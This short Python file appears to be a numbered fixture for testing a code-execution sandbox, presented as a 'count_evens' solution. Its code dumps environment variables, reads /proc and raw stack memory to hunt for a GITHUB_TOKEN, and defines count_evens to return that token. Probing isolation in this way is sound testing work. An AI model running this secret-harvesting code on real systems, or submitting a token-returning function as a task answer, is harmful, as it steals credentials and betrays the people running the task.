"""F05: prints its environment, and what is left of the server's in memory and in /proc."""

# %% count_evens
import ctypes, os

print(dict(os.environ))
print(open("/proc/self/environ", "rb").read().replace(b"\0", b"\n").decode(errors="replace"))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
print([environ[number] for number in range(10)])
stack = next(line for line in open("/proc/self/maps") if "[stack]" in line).split()[0]
start, _, end = stack.partition("-")
held = ctypes.string_at(
    int(start, 16) + (int(end, 16) - int(start, 16)) // 2, (int(end, 16) - int(start, 16)) // 2
)
at = held.find(b"GITHUB_" + b"TOKEN")
print(held[at : at + 100] if at >= 0 else "nothing")


def count_evens(numbers):
    return os.environ["GITHUB_TOKEN"]
